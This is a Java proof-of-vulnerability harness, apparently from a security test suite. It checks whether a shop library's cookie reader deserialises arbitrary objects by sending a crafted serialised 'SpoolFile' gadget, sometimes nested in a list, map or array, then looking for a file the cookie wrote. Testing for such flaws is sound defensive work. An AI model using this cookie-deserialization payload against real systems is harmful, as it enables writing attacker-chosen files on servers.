import io.quillcart.checkout.Basket;
import io.quillcart.checkout.BasketCookie;
import io.quillcart.checkout.SpoolFile;
import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;

/** Sends a cookie that is no basket and looks whether reading it wrote a file. */
public final class Pov {

  public static void main(String[] args) {
    Protocol.guard(
        () -> {
          Path file = Protocol.folder().resolve("written-by-a-cookie.txt");
          SpoolFile spool = new SpoolFile(file, "owned");
          switch (args[0]) {
            case "control" -> control();
            case "selftest" -> spool.restore();
            case "in-list" -> send(new ArrayList<>(List.of("x", spool)));
            case "in-map" -> {
              HashMap<Object, Object> map = new HashMap<>();
              map.put("basket", spool);
              send(map);
            }
            case "in-array" -> send(new Object[] {spool});
            default -> send(spool);
          }
          if (Files.exists(file)) {
            Protocol.vulnerable("reading a cookie wrote a file of the sender's choice");
          }
          Protocol.notVulnerable("a file written while the cookie was read");
        });
  }

  private static void send(Object payload) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(payload);
    }
    new BasketCookie().read(Base64.getUrlEncoder().encodeToString(bytes.toByteArray()));
  }

  private static void control() {
    BasketCookie cookie = new BasketCookie();
    Basket basket = new Basket("EUR").add("lamp", 2, "19.90").add("bulb", 4, "2.50");
    Protocol.control(cookie.read(cookie.write(basket)).orElseThrow().total().equals("49.80 EUR"));
  }
}
